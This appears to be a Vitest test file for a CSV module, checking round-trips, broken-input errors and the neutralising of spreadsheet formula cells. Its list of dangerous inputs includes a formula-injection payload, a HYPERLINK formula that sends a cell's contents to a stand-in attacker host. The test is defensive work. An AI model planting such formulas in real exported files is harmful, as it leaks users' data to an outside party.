import { describe, expect, it } from 'vitest';
import { CsvError, neutraliseCell, parseCsv, toCsv } from './csv.ts';

describe('csv', () => {
  it('round-trips quotes, semicolons, line breaks and Swedish letters', () => {
    const rows = [['Åtgärd "ett"; med semikolon', 'rad1\nrad2', 42], ['', null, 'ö']];
    const parsed = parseCsv(toCsv(['A', 'B', 'C'], rows));
    expect(parsed.headers).toEqual(['A', 'B', 'C']);
    expect(parsed.rows).toEqual([
      { A: 'Åtgärd "ett"; med semikolon', B: 'rad1\nrad2', C: '42' },
      { A: '', B: '', C: 'ö' },
    ]);
  });

  it('reads comma-separated files and skips blank lines', () => {
    expect(parseCsv('a,b\r\n1,2\r\n\r\n3,4').rows).toEqual([{ a: '1', b: '2' }, { a: '3', b: '4' }]);
  });

  it('refuses binary and broken quoting', () => {
    expect(() => parseCsv('a;b\n"open;2')).toThrow(CsvError);
    expect(() => parseCsv(Buffer.from([0x50, 0x4b, 0x00, 0x01]))).toThrow(CsvError);
  });

  it('neutralises cells a spreadsheet would run as formulas, and reads them back unchanged', () => {
    const dangerous = ['=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")', '+46 46 35 50 00', '-1+1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=redan citerad", "''-två"];
    const harmless = ['Trygghetsvandring', "'bara en apostrof", 'a=b', '2026-09-01'];
    const file = toCsv(['Text'], [...dangerous, ...harmless].map((v) => [v])).toString('utf8');
    const lines = file.replace(/^\uFEFF/, '').split('\r\n');
    // The written cells (unquoted unless needed): every dangerous one begins with an apostrophe.
    const written = lines.slice(1, 1 + dangerous.length).map((l) => l.replace(/^"/, ''));
    for (const w of written) expect(w.startsWith("'"), w).toBe(true);
    expect(file).not.toMatch(/(^|\r\n|;|")[=+\-@]/);
    expect(lines.slice(1 + dangerous.length, 1 + dangerous.length + harmless.length)).toEqual(["Trygghetsvandring", "'bara en apostrof", 'a=b', '2026-09-01']);
    // Numbers are not text: a negative number stays a number.
    expect(toCsv(['N'], [[-5]]).toString('utf8')).toContain('\r\n-5\r\n');
    // Read back: exactly what was written (tab and CR inside a cell survive; the parser trims the edges).
    const parsed = parseCsv(file).rows.map((r) => r.Text);
    expect(parsed).toEqual([...dangerous, ...harmless].map((v) => v.trim()));
  });

  it('neutraliseCell prefixes =, +, -, @, tab and carriage return, and nothing else', () => {
    expect(['=1', '+1', '-1', '@a', '\t1', '\r1'].map(neutraliseCell)).toEqual(["'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1"]);
    expect(['1', 'a-b', ' =1', 'Ärende'].map(neutraliseCell)).toEqual(['1', 'a-b', ' =1', 'Ärende']);
  });
});
